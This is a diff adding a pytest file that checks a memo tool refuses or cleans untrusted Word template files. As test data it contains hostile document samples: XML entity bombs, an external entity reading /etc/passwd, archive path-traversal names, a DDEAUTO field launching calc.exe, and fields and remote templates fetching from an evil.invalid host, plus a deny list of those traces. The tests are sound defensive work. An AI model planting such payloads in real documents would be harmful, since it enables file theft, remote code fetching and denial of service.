@@ -1,0 +1,388 @@
+"""A house's Word file is untrusted: what is damaged or dangerous is refused with a finding, and what acts or tells of its makers stays behind."""
+
+import io
+import re
+import socket
+import subprocess
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import houses
+import pytest
+from docx import Document as WordDocument
+from PIL import Image
+
+from memos.document import Document, Heading, Paragraph, Run
+from memos.errors import FileError, UsageError
+from memos.findings import Finding
+from memos.house import House, Text
+from memos.houses import KNOWN
+from memos.read.word import LIMIT, house_of
+from memos.styles import read_style, standard, style_of
+from memos.writers.docx import write_docx
+from memos.writers.pdf import lay_out, write_pdf
+
+DOCUMENT = Document("Memo", "en", (Heading(1, (Run("Purpose"),)), Paragraph((Run("Text."),))), banner="RESTRICTED")
+
+
+@pytest.fixture(autouse=True)
+def _nothing_is_fetched_or_run(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whoever opens a connection or starts a program fails."""
+
+    def refused(*_: object, **__: object) -> None:
+        pytest.fail("a house file made Memos fetch or run something")
+
+    monkeypatch.setattr(socket.socket, "connect", refused)
+    monkeypatch.setattr(subprocess, "Popen", refused)
+
+
+def codes(data: bytes) -> list[str]:
+    return [finding.code for finding in house_of(data, KNOWN)[1]]
+
+
+def taken(data: bytes) -> tuple[House, tuple[Finding, ...]]:
+    house, findings = house_of(data, KNOWN)
+    assert house is not None, findings
+    return house, findings
+
+
+def paper(data: bytes, folder: Path) -> dict[str, bytes]:
+    """The parts of a Word paper in the house's style."""
+    file = folder / "house.docx"
+    file.write_bytes(data)
+    made = write_docx(DOCUMENT, style_of(str(file)))
+    with zipfile.ZipFile(io.BytesIO(made)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def bombed() -> bytes:
+    return houses.word_file({f"customXml/{number}.xml": b" " * 15_000_000 for number in range(7)})
+
+
+def encrypted() -> bytes:
+    data = bytearray(houses.word_file())
+    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        place = data.find(signature)
+        while place >= 0:
+            data[place + at] |= 1
+            place = data.find(signature, place + 4)
+    return bytes(data)
+
+
+def doubled() -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as archive:
+        for name, data in (*houses.parts().items(), ("word/document.xm_", b"<evil/>")):
+            archive.writestr(name, data)
+    return made.getvalue().replace(b"document.xm_", b"document.xml")
+
+
+ENTITIES = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "empty": ("TPL201", lambda: b""),
+    "PDF": ("TPL201", lambda: b"%PDF-1.7\n"),
+    "RTF": ("TPL201", lambda: b"{\\rtf1 x}"),
+    "text": ("TPL201", lambda: b"kind: style\n"),
+    "Word 97": ("TPL201", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
+    "OpenDocument": ("TPL201", lambda: houses.packed({"mimetype": b"application/vnd.oasis.opendocument.text"})),
+    "spreadsheet": (
+        "TPL201",
+        lambda: houses.word_file(
+            {"[Content_Types].xml": houses.parts()["[Content_Types].xml"].replace(b"wordprocessingml", b"spreadsheetml")}
+        ),
+    ),
+    "encrypted archive": ("TPL202", encrypted),
+    "encrypted file": (
+        "TPL202",
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
+    ),
+    "truncated": ("TPL203", lambda: houses.word_file()[:-200]),
+    "flipped": ("TPL203", lambda: houses.word_file().replace(b"\x00w:", b"\x01w:", 1)[:900] + b"\0" * 900),
+    "part twice": ("TPL203", doubled),
+    "part twice but for capitals": ("TPL203", lambda: houses.word_file({"WORD/document.xml": "<x/>"})),
+    "dangling relationship": (
+        "TPL203",
+        lambda: houses.word_file(
+            {
+                "word/_rels/document.xml.rels": houses.relationships(
+                    ("rId1", "styles", "styles.xml"), ("rId2", "image", "media/none.png")
+                )
+            }
+        ),
+    ),
+    "no document": ("TPL203", lambda: houses.word_file({"word/document.xml": None})),
+    "no relationships": ("TPL203", lambda: houses.word_file({"_rels/.rels": None})),
+    "no styles": ("TPL203", lambda: houses.word_file({"word/_rels/document.xml.rels": None})),
+    "empty styles": ("TPL203", lambda: houses.word_file({"word/styles.xml": f"<w:styles {houses.W}/>"})),
+    "no XML": ("TPL203", lambda: houses.word_file({"word/document.xml": "<w:document>"})),
+    "archive bomb": ("TPL204", bombed),
+    "part bomb": ("TPL204", lambda: houses.word_file({"word/document.xml": b" " * (LIMIT + 1)})),
+    "many parts": ("TPL204", lambda: houses.word_file({f"x/{number}": b"" for number in range(1001)})),
+    "large file": ("TPL204", lambda: houses.word_file() + b"\0" * LIMIT),
+    "deep markup": (
+        "TPL204",
+        lambda: houses.word_file({"word/document.xml": houses.body(inner="<w:sdt>" * 9000 + "</w:sdt>" * 9000)}),
+    ),
+    "entity bomb": ("TPL205", lambda: houses.word_file({"word/document.xml": ENTITIES + houses.body(inner="&b;")})),
+    "entity bomb in UTF-16": (
+        "TPL205",
+        lambda: houses.word_file({"word/styles.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + ENTITIES + houses.STYLES).encode("utf-16")}),
+    ),
+    "external entity": (
+        "TPL205",
+        lambda: houses.word_file({"word/_rels/document.xml.rels": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
+    ),
+    "climbing name": ("TPL206", lambda: houses.word_file({"../evil.xml": "<x/>"})),
+    "absolute name": ("TPL206", lambda: houses.word_file({"/etc/passwd": "x"})),
+    "backslash name": ("TPL206", lambda: houses.word_file({"word\\..\\evil": "x"})),
+    "climbing relationship": (
+        "TPL206",
+        lambda: houses.word_file(
+            {"word/_rels/document.xml.rels": houses.relationships(("rId1", "styles", "../../../etc/passwd"))}
+        ),
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_damaged_or_dangerous_file_is_refused(name: str, tmp_path: Path) -> None:
+    code, make = REFUSED[name]
+    data = make()
+    house, findings = house_of(data, KNOWN)
+    assert house is None
+    assert [finding.code for finding in findings] == [code]
+    file = tmp_path / "house.docx"
+    file.write_bytes(data)
+    with pytest.raises(FileError, match=code):
+        style_of(str(file))
+
+
+def test_a_right_file_is_taken_and_nothing_is_said_of_its_making() -> None:
+    house, findings = taken(houses.word_file())
+    assert findings == ()
+    assert [style.name for style in house.styles] == ["normal", "heading 1", "header"]
+
+
+def test_a_template_is_taken_as_a_document_is() -> None:
+    types = houses.parts()["[Content_Types].xml"].replace(b"document.main+xml", b"template.main+xml")
+    taken(houses.word_file({"[Content_Types].xml": types}))
+
+
+def field(instruction: str) -> str:
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+        f'{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+ACTIVE = {
+    "DDE": houses.with_header(field("DDEAUTO c:\\\\windows\\\\calc.exe x")),
+    "INCLUDETEXT": houses.with_header(field('INCLUDETEXT "http://evil.invalid/x"')),
+    "INCLUDEPICTURE in one element": houses.with_header(
+        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.invalid/x "><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
+    ),
+    "field split over runs": houses.with_header(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    ),
+    "external picture": houses.with_header(
+        f"<w:p>{houses.drawing('rId9')}</w:p>",
+        rels=houses.relationships(external=(("rId9", "image", "http://evil.invalid/x.png"),)),
+    ),
+    "remote template": houses.word_file(
+        {
+            "word/settings.xml": f'<w:settings {houses.W}><w:attachedTemplate r:id="rId1"/></w:settings>',
+            "word/_rels/settings.xml.rels": houses.relationships(
+                external=(("rId1", "attachedTemplate", "http://evil.invalid/t.dotm"),)
+            ),
+        }
+    ),
+    "macros": houses.word_file(
+        {
+            "word/vbaProject.bin": b"macro",
+            "word/_rels/document.xml.rels": houses.relationships(
+                ("rId1", "styles", "styles.xml"), ("rId2", "vbaProject", "vbaProject.bin")
+            ),
+        }
+    ),
+    "another document": houses.word_file(
+        {
+            "word/chunk.html": "<script>",
+            "word/_rels/document.xml.rels": houses.relationships(
+                ("rId1", "styles", "styles.xml"), ("rId2", "aFChunk", "chunk.html")
+            ),
+        }
+    ),
+    "object": houses.with_header('<w:p><w:r><w:object/></w:r></w:p>'),
+}  # fmt: skip
+
+
+ACTING = (
+    b"evil", b"ddeauto", b"calc.exe", b"includetext", b"includepicture", b">shown<", b"vbaproject", b"<script", b"attachedtemplate", b"\"external\"", b"w:object",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ACTIVE)
+def test_what_acts_or_lies_elsewhere_does_not_reach_a_paper(name: str, tmp_path: Path) -> None:
+    assert codes(ACTIVE[name]) == ["TPL210"]
+    parts = paper(ACTIVE[name], tmp_path)
+    whole = b"".join(parts.values()).lower()
+    for trace in ACTING:
+        assert trace not in whole, trace
+    assert b'<w:t xml:space="preserve">restricted</w:t>' in whole
+
+
+def test_a_field_of_a_time_or_a_name_is_left_out_and_the_page_number_stays() -> None:
+    house, findings = taken(
+        houses.with_header(field("DATE \\@ d") + field("AUTHOR") + field("PAGE") + field("NUMPAGES"))
+    )
+    assert [finding.code for finding in findings] == ["TPL212"]
+    pieces = [piece for paragraph in house.headers["default"].paragraphs() for piece in paragraph.pieces]
+    assert [piece.field for piece in pieces if isinstance(piece, Text)] == ["page", "pages"]
+
+
+def test_traces_of_the_makers_do_not_reach_a_paper(tmp_path: Path) -> None:
+    header = (
+        '<w:p w:rsidR="00AB12CD"><w:ins w:author="Jane Roe" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Ministry</w:t></w:r></w:ins>'
+        '<w:del w:author="Jane Roe"><w:r><w:delText>Old ministry</w:delText></w:r></w:del><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r></w:p>'
+    )
+    data = houses.with_header(
+        header,
+        **{
+            "_rels/.rels": houses.relationships(
+                ("rId1", "officeDocument", "word/document.xml"),
+                ("rId2", "custom-properties", "docProps/custom.xml"),
+                ("rId3", "extended-properties", "docProps/app.xml"),
+                ("rId4", "thumbnail", "docProps/thumbnail.jpeg"),
+            ),
+            "docProps/custom.xml": "<x>Case 17</x>",
+            "docProps/thumbnail.jpeg": b"JPEG",
+            "docProps/app.xml": '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>ACME</Company></Properties>',
+        },
+    )
+    assert sorted(codes(data)) == ["TPL211", "TPL212"]
+    parts = paper(data, tmp_path)
+    whole = b"".join(parts.values())
+    assert b"Ministry" in whole
+    for trace in (b"Jane", b"Old ministry", b"unseen", b"rsid", b"Case 17", b"ACME", b"JPEG", b"<w:ins ", b"<w:del"):
+        assert trace not in whole, trace
+
+
+def test_a_picture_is_encoded_anew_and_its_name_and_text_stay_behind(tmp_path: Path) -> None:
+    picture = houses.png() + b"TRAILING SECRET"
+    data = houses.with_header(
+        f"<w:p>{houses.drawing('rId1')}</w:p>",
+        **{"rels": houses.relationships(("rId1", "image", "media/logo.png")), "word/media/logo.png": picture},
+    )
+    parts = paper(data, tmp_path)
+    shown = [name for name in parts if "media" in name]
+    assert shown == ["word/media/house1.png"]
+    whole = b"".join(parts.values())
+    for trace in (b"SECRET", b"jane", b"secret", b"logo"):
+        assert trace not in whole
+
+
+def test_styles_that_build_on_themselves_end(tmp_path: Path) -> None:
+    styles = houses.STYLES.replace('<w:basedOn w:val="a"/>', '<w:basedOn w:val="Kopfzeile"/>', 1).replace(
+        '<w:name w:val="header"/><w:basedOn w:val="a"/>', '<w:name w:val="header"/><w:basedOn w:val="berschrift1"/>'
+    )
+    parts = paper(houses.word_file({"word/styles.xml": styles}), tmp_path)
+    written = parts["word/styles.xml"].decode()
+    based = dict(re.findall(r'w:styleId="(\w+)"><w:name [^>]*/><w:basedOn w:val="(\w+)"', written))
+    for start in based:
+        seen = []
+        at: str | None = start
+        while at:
+            assert at not in seen
+            seen.append(at)
+            at = based.get(at)
+
+
+def test_python_docx_s_own_template_gives_a_style(tmp_path: Path) -> None:
+    made = io.BytesIO()
+    WordDocument().save(made)
+    assert set(codes(made.getvalue())) <= {"TPL211", "TPL216"}
+    assert b"<w:titlePg/>" not in paper(made.getvalue(), tmp_path)["word/document.xml"]
+
+
+def test_measures_that_papers_cannot_have_are_brought_to_the_nearest(tmp_path: Path) -> None:
+    text = houses.body().replace('w:left="1701"', 'w:left="99999"').replace('w:top="1701"', 'w:top="10"')
+    file = tmp_path / "house.docx"
+    file.write_bytes(houses.word_file({"word/document.xml": text}))
+    style, findings = read_style(str(file))
+    assert style is not None
+    assert "TPL215" in {finding.code for finding in findings}
+    assert write_pdf(DOCUMENT, style).startswith(b"%PDF")
+
+
+def test_a_style_file_names_a_house_file_beside_it_only(tmp_path: Path) -> None:
+    (tmp_path / "in").mkdir()
+    (tmp_path / "house.docx").write_bytes(houses.word_file())
+    (tmp_path / "in" / "style.yaml").write_text("kind: style\nname: x\nhouse: ../house.docx\n")
+    with pytest.raises(UsageError, match="not in the folder"):
+        style_of(str(tmp_path / "in" / "style.yaml"))
+
+
+def test_a_house_cannot_hide_the_marking(tmp_path: Path) -> None:
+    hiding = '<w:vanish/><w:color w:val="FFFFFF"/><w:w w:val="1"/><w:position w:val="2000"/><w:highlight w:val="black"/><w:sz w:val="2"/>'
+    styles = houses.STYLES.replace('<w:sz w:val="22"/>', hiding, 1)
+    styles = styles.replace('<w:name w:val="Normal"/>', f'<w:name w:val="Normal"/><w:rPr>{hiding}</w:rPr>')
+    own = f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="Banner"><w:name w:val="Banner"/><w:rPr>{hiding}</w:rPr></w:style></w:styles>'
+    file = tmp_path / "house.docx"
+    file.write_bytes(houses.word_file({"word/styles.xml": styles.replace("</w:styles>", own)}))
+    style = style_of(str(file))
+    assert style.text.banner == standard().text.banner
+    assert style.text.copy_number == standard().text.copy_number
+    written = paper(file.read_bytes(), tmp_path)["word/styles.xml"].decode()
+    (banner,) = re.findall(r'<w:style [^>]*w:styleId="Banner">.*?</w:style>', written)
+    assert "basedOn" not in banner
+    assert 'w:val="9C0006"' in banner
+    ground = written[: written.index("</w:docDefaults>")]
+    for name in ("w:color", "w:vanish", "<w:w ", "w:position", "w:highlight"):
+        assert name not in ground
+
+
+def test_what_is_cut_off_a_picture_stays_behind() -> None:
+    made = io.BytesIO()
+    picture = Image.new("RGB", (100, 50), "white")
+    picture.paste("red", (0, 0, 50, 50))
+    picture.save(made, "PNG")
+    cut = houses.drawing("rId1").replace("</pic:blipFill>", '<a:srcRect l="50000"/></pic:blipFill>')
+    data = houses.with_header(
+        f"<w:p>{cut}</w:p>",
+        **{"rels": houses.relationships(("rId1", "image", "media/a.png")), "word/media/a.png": made.getvalue()},
+    )
+    (shown,) = taken(data)[0].pictures
+    assert (shown.width, shown.height) == (50, 50)
+    with Image.open(io.BytesIO(shown.data)) as opened:
+        assert opened.convert("RGB").getpixel((0, 0)) == (255, 255, 255)
+
+
+def test_a_character_that_no_font_has_keeps_the_house_from_being_taken(tmp_path: Path) -> None:
+    file = tmp_path / "house.docx"
+    file.write_bytes(houses.with_header("<w:p><w:r><w:t>Ministry ♞</w:t></w:r></w:p>"))
+    style, findings = read_style(str(file))
+    assert style is None
+    assert [(finding.code, finding.severity) for finding in findings if finding.severity == "error"] == [
+        ("REN101", "error")
+    ]
+
+
+def test_space_between_a_picture_and_its_text_is_kept(tmp_path: Path) -> None:
+    data = houses.with_header(
+        f'<w:p>{houses.drawing("rId1")}<w:r><w:t xml:space="preserve">  Ministry </w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>of Water</w:t></w:r></w:p>',
+        **{"rels": houses.relationships(("rId1", "image", "media/a.png")), "word/media/a.png": houses.png()},
+    )
+    file = tmp_path / "house.docx"
+    file.write_bytes(data)
+    page = lay_out(DOCUMENT, style_of(str(file))).pages[0]
+    seal = page.ornament[0]
+    ministry, water = (
+        next(found for found in page.header if "".join(span.text for span in found.line.spans).strip() == text)
+        for text in ("Ministry", "of Water")
+    )
+    space = ministry.line.spans[0].look.space
+    assert ministry.x == pytest.approx(seal.x + seal.width + 2 * space)
+    assert water.x == pytest.approx(ministry.x + ministry.line.width + space)
